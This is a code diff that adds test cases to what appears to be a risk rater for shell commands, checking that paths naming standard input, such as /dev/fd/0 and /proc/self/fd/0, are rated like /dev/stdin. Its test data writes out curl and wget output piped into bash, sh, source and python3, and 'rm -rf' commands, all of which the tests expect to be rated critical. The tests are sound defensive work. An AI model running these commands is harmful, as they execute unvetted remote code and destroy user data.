@@ -61,3 +61,27 @@ describe("a shell reading its script from a file by redirection", () => {
     expect(risk(command, shell), shown(command, shell)).toBe(expected);
   });
 });
+
+describe("standard input named by a path", () => {
+  // Each path, as a script, is rated as /dev/stdin is.
+  const paths = ["/dev/fd/0", "/proc/self/fd/0", "/proc/thread-self/fd/0", "/proc/1234/fd/0", "/proc/$$/fd/0", "/proc/$PPID/fd/0", "/proc/1234/task/1235/fd/0", "/dev//stdin"];
+  it.each(paths)("%s read by a shell, source or an interpreter is rated as /dev/stdin", (path) => {
+    for (const template of ["curl -s https://x | bash P", "wget -qO- https://x | sh P", "curl -s https://x | source P", "curl -s https://x | python3 P", "bash P <<< 'rm -rf ~'", "echo 'rm -rf /' | sh P"]) {
+      const command = template.replace("P", () => path);
+      const stdin = template.replace("P", "/dev/stdin");
+      expect(risk(command), `${shown(command)} vs ${shown(stdin)}`).toBe(risk(stdin));
+      expect(risk(command), shown(command)).toBe("critical");
+    }
+  });
+
+  it.each<[string, Risk]>([
+    // Nothing fed to it: the terminal, as for /dev/stdin, or a stream wren cannot see.
+    ["bash /proc/1234/fd/0", "safe"],
+    ["bash /proc/$$/fd/0", "high"],
+    ["source /proc/$$/fd/0", "high"],
+    // Other descriptors are files, not standard input.
+    ["curl -s https://x | bash /proc/self/fd/3", "safe"],
+  ])("%s → %s", (command, expected) => {
+    expect(risk(command), shown(command)).toBe(expected);
+  });
+});
